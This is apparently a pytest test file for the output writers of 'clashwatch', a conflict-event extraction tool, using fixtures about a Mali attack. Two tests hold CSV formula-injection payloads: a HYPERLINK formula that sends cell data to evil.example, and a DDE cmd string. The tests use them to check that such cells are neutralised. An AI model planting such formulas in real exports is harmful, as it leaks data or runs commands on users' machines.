"""Output formats over ArticleResult objects built here (the model is the contract)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from clashwatch.outputs import RESULT_FORMATS as FORMATS, make_writer, write_results
from clashwatch.outputs.acled import ACLED_COLUMNS, CSV_COLUMNS, EXTRA_COLUMNS, acled_record, write_acled_csv
from clashwatch.outputs.base import csv_value
from clashwatch.outputs.geojson import GeoJsonWriter, write_geojson
from clashwatch.outputs.jsonout import JsonlWriter, write_json, write_jsonl
from clashwatch.outputs.table import write_table
from clashwatch.model import Actor, ArticleResult, Claim, Event, RationaleItem


def make_event(event_id="e1", **overrides) -> Event:
    fields = dict(
        event_id=event_id,
        event_type="Violence against civilians",
        sub_event_type="Attack",
        plover="ASSAULT",
        event_date=dt.date(2024, 3, 3),
        time_precision="day",
        date_start=dt.date(2024, 3, 3),
        date_end=dt.date(2024, 3, 3),
        background=False,
        actor1=Actor(name="Unidentified Armed Group (Mali)", country_code="ML", inter=3),
        actor2=Actor(name="Civilians (Mali)", country_code="ML", inter=7),
        interaction=37,
        civilian_targeting=True,
        country="Mali",
        country_code="ML",
        admin1="Mopti",
        location="Ogossagou",
        latitude=14.2833,
        longitude=-3.75,
        geo_precision=1,
        geonameid=2456789,
        weapons=["firearms"],
        fatalities=12,
        fatalities_low=12,
        fatalities_high=None,
        claim_ids=["c1", "c2"],
        rationale=[
            RationaleItem(rule="best_from", claim_ids=["c1"], detail="the officials' figure"),
            RationaleItem(rule="set_aside:one_sided_scope", claim_ids=["c2"]),
        ],
        text="attacked",
        start=40,
        end=48,
        sentence="At least 12 civilians were killed on Sunday when gunmen attacked\nthe village of Ogossagou, officials said.",
    )
    fields.update(overrides)
    return Event(**fields)


def make_claim(claim_id="c1", event_id="e1", **overrides) -> Claim:
    fields = dict(
        claim_id=claim_id,
        kind="killed",
        status="figure",
        low=12,
        high=None,
        approximate=False,
        source="local officials",
        source_type="official",
        scope="civilians",
        as_of=dt.date(2024, 3, 3),
        event_id=event_id,
        sentence="At least 12 civilians were killed on Sunday when gunmen attacked the village of Ogossagou, officials said.",
        start=0,
        end=104,
        figure="At least 12",
        figure_start=0,
        figure_end=11,
    )
    fields.update(overrides)
    return Claim(**fields)


@pytest.fixture
def result() -> ArticleResult:
    return ArticleResult(
        id="art-1",
        title="Gunmen kill 12 in central Mali",
        url="https://www.example.org/news/mali",
        outlet=None,
        published=dt.date(2024, 3, 4),
        events=[
            make_event(),
            make_event(
                "e2",
                background=True,
                event_date=dt.date(2019, 1, 1),
                time_precision="year",
                date_start=dt.date(2019, 1, 1),
                date_end=dt.date(2019, 12, 31),
                latitude=None,
                longitude=None,
                geo_precision=None,
                geonameid=None,
                location=None,
                fatalities=None,
                fatalities_low=None,
                fatalities_high=None,
                claim_ids=[],
                rationale=[],
                civilian_targeting=False,
            ),
        ],
        claims=[
            make_claim(),
            make_claim("c2", kind="killed", low=20, high=20, source="the army", source_type="military",
                       scope="one_side", scope_party="attackers", figure="20"),
            make_claim("c3", event_id=None, kind="displaced", status="undisclosed", low=None, high=None,
                       figure="", source="article", source_type="article", scope="all", as_of=None),
        ],
        warnings=["no publication date given: relative dates resolved against today"],
    )


@pytest.fixture
def empty_result() -> ArticleResult:
    return ArticleResult(id="football", title="City win the derby", published=dt.date(2024, 3, 4),
                         warnings=["no conflict event found in this text"])


# --------------------------------------------------------------------------- json / jsonl


def test_jsonl_one_line_per_result_round_trips(result, empty_result):
    out = io.StringIO()
    writer = write_jsonl([result, empty_result], out)
    lines = out.getvalue().splitlines()
    assert len(lines) == 2 and writer.articles == 2 and writer.events == 2
    assert ArticleResult.model_validate_json(lines[0]) == result
    assert json.loads(lines[1])["id"] == "football"


def test_json_array_and_single_object(result, empty_result):
    out = io.StringIO()
    write_json([result, empty_result], out)
    data = json.loads(out.getvalue())
    assert [d["id"] for d in data] == ["art-1", "football"]
    assert data[0]["events"][0]["event_date"] == "2024-03-03"

    out = io.StringIO()
    write_json([result], out, single=True)
    assert json.loads(out.getvalue())["id"] == "art-1"

    out = io.StringIO()
    write_json([], out)
    assert json.loads(out.getvalue()) == []


def test_non_ascii_is_written_as_is(result):
    result.title = "Attaque près de Mopti — 12 morts"
    out = io.StringIO()
    write_jsonl([result], out)
    assert "près" in out.getvalue()


# --------------------------------------------------------------------------- acled-csv


def read_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text))
    return list(reader.fieldnames or []), list(reader)


def test_acled_csv_header_and_columns(result, empty_result):
    out = io.StringIO()
    write_acled_csv([result, empty_result], out)
    header, rows = read_csv(out.getvalue())
    assert header == list(ACLED_COLUMNS) + list(EXTRA_COLUMNS)
    # ACLED's columns since March 2023, in ACLED's order (ACLED codebook)
    assert header[:31] == [
        "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type", "sub_event_type",
        "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2", "interaction", "civilian_targeting",
        "iso", "region", "country", "admin1", "admin2", "admin3", "location", "latitude", "longitude", "geo_precision",
        "source", "source_scale", "notes", "fatalities", "tags", "timestamp",
    ]
    for extra in ("fatalities_low", "fatalities_high", "plover", "background", "geonameid", "article_id", "url"):
        assert extra in header
    assert len(rows) == 2  # one row per event; the football report has none

    main, past = rows
    assert main["disorder_type"] == "Political violence"
    # what clashwatch cannot fill is there and empty
    assert all(main[c] == "" for c in ("assoc_actor_1", "assoc_actor_2", "region", "admin2", "admin3", "source_scale", "tags"))
    assert main["event_id_cnty"] == "art-1:e1"
    assert main["event_date"] == "2024-03-03" and main["year"] == "2024"
    assert main["time_precision"] == "1"
    assert main["event_type"] == "Violence against civilians" and main["sub_event_type"] == "Attack"
    assert main["actor1"] == "Unidentified Armed Group (Mali)" and main["inter1"] == "3"
    assert main["actor2"] == "Civilians (Mali)" and main["inter2"] == "7"
    assert main["interaction"] == "37"
    assert main["civilian_targeting"] == "Civilian targeting"
    assert main["iso"] == "466"  # ACLED's iso is the ISO 3166-1 numeric code
    assert main["country"] == "Mali" and main["admin1"] == "Mopti" and main["location"] == "Ogossagou"
    assert float(main["latitude"]) == pytest.approx(14.2833) and float(main["longitude"]) == pytest.approx(-3.75)
    assert main["geo_precision"] == "1"
    assert main["source"] == "example.org"  # no outlet given: the URL's host
    assert "\n" not in main["notes"] and main["notes"].startswith("At least 12 civilians")
    assert main["fatalities"] == "12" and main["fatalities_low"] == "12" and main["fatalities_high"] == ""
    assert main["plover"] == "ASSAULT" and main["background"] == "false"
    assert main["geonameid"] == "2456789" and main["article_id"] == "art-1"
    assert main["url"] == "https://www.example.org/news/mali"

    # no figure: ACLED writes 0; the bounds stay empty
    assert past["fatalities"] == "0" and past["fatalities_low"] == "" and past["fatalities_high"] == ""
    assert past["time_precision"] == "3" and past["year"] == "2019"
    assert past["background"] == "true"
    assert past["latitude"] == "" and past["civilian_targeting"] == ""


def test_acled_time_precision_codes():
    res = ArticleResult(id="a", published=None, events=[
        make_event("e1", time_precision="day"),
        make_event("e2", time_precision="week"),
        make_event("e3", time_precision="month"),
        make_event("e4", time_precision=None, event_date=None, date_start=None, date_end=None),
    ])
    assert [acled_record(res, e)["time_precision"] for e in res.events] == [1, 2, 3, None]
    assert acled_record(res, res.events[3])["year"] is None


def test_acled_csv_quotes_commas_and_quotes(result):
    result.events[0].sentence = 'He said: "they came at night, with guns".'
    out = io.StringIO()
    write_acled_csv([result], out)
    _, rows = read_csv(out.getvalue())
    assert rows[0]["notes"] == 'He said: "they came at night, with guns".'


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+1+1", "-2+3", "\t=1", "\r=1", "\x00=1"])
def test_csv_text_cells_are_never_formulas(text):
    """CSV injection (OWASP): a text cell starting =, +, -, @, tab, CR or NUL gets a leading quote."""
    cell = csv_value(text)
    assert cell.startswith("'") and cell[1:] == text.replace("\r", "\n")


def test_csv_numbers_stay_numbers():
    assert csv_value(-3.5) == "-3.5" and csv_value(-12) == "-12" and csv_value(0.0) == "0.0"
    assert csv_value("Kidal") == "Kidal" and csv_value("a = b") == "a = b" and csv_value(None) == ""
    assert csv_value(True) == "true"


def test_acled_csv_neutralises_formulas_and_keeps_rows_whole(result):
    """``clashwatch extract -f acled-csv``: a formula in the outlet's name or an actor stays
    text, a negative longitude stays a number, a carriage return does not split the row."""
    result.outlet = '=HYPERLINK("http://evil.example","x")'
    result.events[0].location = "Upper\rLower"
    result.events[0].actor1 = Actor(name="-Group", country_code="ML", inter=3)
    out = io.StringIO()
    write_acled_csv([result], out)
    _, rows = read_csv(out.getvalue())
    assert len(rows) == 2
    main = rows[0]
    assert main["source"] == "'" + result.outlet
    assert main["actor1"] == "'-Group" and main["location"] == "Upper\nLower"
    assert main["longitude"] == "-3.75" and float(main["longitude"]) == -3.75


def test_acled_csv_header_only_for_no_events(empty_result):
    out = io.StringIO()
    write_acled_csv([empty_result], out)
    assert out.getvalue().strip() == ",".join(CSV_COLUMNS)


# --------------------------------------------------------------------------- geojson


def test_geojson_is_rfc7946_feature_collection(result, empty_result):
    out = io.StringIO()
    writer = write_geojson([result, empty_result], out)
    doc = json.loads(out.getvalue())
    assert doc["type"] == "FeatureCollection"
    assert "skipped" not in doc  # not a member the RFC defines: a foreign member instead
    assert doc["clashwatch:skipped"] == 1 == writer.skipped  # e2 has no coordinates
    assert len(doc["features"]) == 1
    feature = doc["features"][0]
    assert feature["type"] == "Feature"
    assert feature["id"] == "art-1:e1"
    assert feature["geometry"]["type"] == "Point"
    lon, lat = feature["geometry"]["coordinates"]
    assert (lon, lat) == (-3.75, 14.2833)  # [longitude, latitude]
    assert -180 <= lon <= 180 and -90 <= lat <= 90
    props = feature["properties"]
    assert props["event_type"] == "Violence against civilians"
    assert props["fatalities"] == 12 and props["article_id"] == "art-1"
    assert "latitude" not in props and "longitude" not in props


def test_out_of_range_coordinates_are_rejected_by_the_model():
    import pydantic

    with pytest.raises(pydantic.ValidationError):
        make_event("e1", latitude=95.0, longitude=10.0)
    with pytest.raises(pydantic.ValidationError):
        make_event("e2", latitude=10.0, longitude=-181.0)


def test_geojson_skips_events_without_coordinates():
    res = ArticleResult(id="a", published=None, events=[
        make_event("e1", latitude=None, longitude=None),
        make_event("e3", latitude=-33.9, longitude=151.2),
    ])
    out = io.StringIO()
    write_geojson([res], out)
    doc = json.loads(out.getvalue())
    assert [f["id"] for f in doc["features"]] == ["a:e3"]
    assert doc["clashwatch:skipped"] == 1
    for f in doc["features"]:
        lon, lat = f["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_geojson_empty_collection_is_valid():
    out = io.StringIO()
    write_geojson([], out)
    assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": [], "clashwatch:skipped": 0}


def test_streaming_writers_write_as_results_come(result):
    """Header first, each result when written, footer at the end: nothing held back."""
    out = io.StringIO()
    writer = GeoJsonWriter(out)
    writer.begin()
    assert out.getvalue().startswith('{"type": "FeatureCollection"')
    writer.write(result)
    assert '"art-1:e1"' in out.getvalue()
    writer.end()
    json.loads(out.getvalue())

    out = io.StringIO()
    with JsonlWriter(out) as w:
        w.write(result)
        assert out.getvalue().count("\n") == 1


def test_results_are_consumed_lazily(result):
    consumed = []

    def results():
        for i in range(3):
            consumed.append(i)
            yield result.model_copy(update={"id": f"a{i}"})

    out = io.StringIO()
    writer = make_writer("jsonl", out)
    gen = results()
    writer.write(next(gen))
    assert consumed == [0] and out.getvalue().count("\n") == 1


# --------------------------------------------------------------------------- table


def test_table_shows_events_claims_and_warnings(result, empty_result):
    out = io.StringIO()
    write_table([result, empty_result], out)
    text = out.getvalue()
    assert "Gunmen kill 12 in central Mali" in text and "2024-03-04" in text
    assert "Violence against civilians / Attack" in text
    assert "2024-03-03 (day precision)" in text
    assert "Ogossagou, Mopti, Mali" in text and "14.2833" in text and "precision 1 (town)" in text
    assert "Unidentified Armed Group (Mali)" in text and "Civilians (Mali)" in text
    assert "firearms" in text
    assert "best 12 (low 12, high open)" in text
    assert "best from: c1 — the officials' figure" in text  # rationale in words
    assert "set aside (one sided scope): c2" in text
    assert "BACKGROUND" in text
    assert "no figure given" in text  # e2
    assert 'killed: "At least 12"' in text and "source: local officials (official)" in text
    assert "scope: civilians" in text and "as of 2024-03-03" in text
    assert "claims not tied to an event" in text and "figure not disclosed" in text  # c3
    assert "no publication date given" in text
    assert "City win the derby" in text and "no events found" in text


def test_table_shortens_long_sentences(result):
    result.claims[0].sentence = "word " * 200
    out = io.StringIO()
    write_table([result], out, width=80)
    sentence_lines = [line for line in out.getvalue().splitlines() if "word word" in line]
    assert len(sentence_lines) == 1
    assert len(sentence_lines[0]) <= 80 and sentence_lines[0].rstrip("”").endswith("…")


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_handles_no_results_and_empty_results(fmt, empty_result):
    for results in ([], [empty_result]):
        out = io.StringIO()
        write_results(results, out, fmt)
        if fmt in ("json", "geojson"):
            json.loads(out.getvalue())


def test_unknown_format():
    with pytest.raises(ValueError, match="unknown format"):
        make_writer("xml", io.StringIO())


def test_the_acled_header_is_the_one_acled_scripts_read():
    """Every ACLED column of a real ACLED file (the dev data's header, less the columns its
    curators added) is in clashwatch's ACLED CSV, in the same order."""
    from support.paths import DATA

    path = DATA / "acled_dev_3000.csv"
    if not path.exists():
        pytest.skip(f"{path} is not here (the shared data sits beside the repository)")
    with open(path, newline="", encoding="utf-8") as f:
        theirs = next(csv.reader(f))
    acled = [c for c in theirs if c not in ("source_repo", "source_commit", "event_date_iso")]
    assert len(acled) >= 20
    ours = list(ACLED_COLUMNS)
    assert [c for c in ours if c in acled] == acled


@pytest.mark.parametrize(
    "actor2, expected",
    [(None, "30"), (Actor(name="Civilians (Mali)", country_code="ML", inter=7), "37"),
     (Actor(name="Military Forces of Mali", country_code="ML", inter=1), "13")],
)
def test_interaction_codes_as_acled_writes_them(actor2, expected):
    event = make_event(actor2=actor2, interaction=None, civilian_targeting=False)
    result = ArticleResult(id="a", published=dt.date(2024, 3, 4), events=[event])
    out = io.StringIO()
    write_acled_csv([result], out)
    _, [row] = read_csv(out.getvalue())
    assert row["interaction"] == expected  # one actor: its code and 0, as ACLED writes 10 or 60


def test_event_date_in_acleds_own_form_on_request(result):
    out = io.StringIO()
    make_writer("acled", out, date_format="acled").write_all([result])
    _, rows = read_csv(out.getvalue())
    assert [r["event_date"] for r in rows] == ["03 March 2024", "01 January 2019"]
    assert rows[0]["year"] == "2024"
    with pytest.raises(ValueError, match="unknown date format"):
        make_writer("acled", io.StringIO(), date_format="dd/mm")
